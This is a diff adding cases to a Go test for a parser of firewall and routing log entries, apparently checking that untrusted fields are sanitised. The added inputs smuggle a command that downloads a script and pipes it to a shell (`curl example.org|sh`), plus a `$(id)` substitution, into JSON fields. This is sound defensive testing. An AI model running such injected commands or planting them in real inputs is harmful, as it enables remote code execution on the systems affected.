@@ -54,6 +54,17 @@ func TestLinesOfANodeAreNotTrusted(t *testing.T) {
 			t.Errorf("%s is taken as %+v", text, l)
 		}
 	}
+	const evil = `; curl example.org|sh #`
+	hostile := `{"dropped":{"kind":"syn",` + ends + `,"family":"ip` + evil + `","table":"$(id)","chain":"KUBE-FORWARD"}}`
+	if l, err := Parse([]byte(hostile), port); err != nil || l.Dropped.Family != "?" || l.Dropped.Table != "?" ||
+		l.Dropped.Chain != "KUBE-FORWARD" {
+		t.Errorf("%+v, %v", l.Dropped, err)
+	}
+	hostile = `{"route":{"from":"fe80::1%` + evil + `","to":"fe80::2%` + evil + `","by":"eth0` + evil + `"}}`
+	if l, err := Parse([]byte(hostile), port); err != nil || l.LookedUp.From.Zone()+l.LookedUp.To.Zone() != "" ||
+		l.LookedUp.By != "?" {
+		t.Errorf("%+v, %v", l.LookedUp, err)
+	}
 	text := `{"dropped":{"kind":"syn",` + ends + `,"rule":"a\u001b[31m\n` + strings.Repeat("y", 1000) + `"}}`
 	l, err := Parse([]byte(text), port)
 	if err != nil || len(l.Dropped.Rule) > maxText || strings.ContainsAny(l.Dropped.Rule, "\x1b\n") {
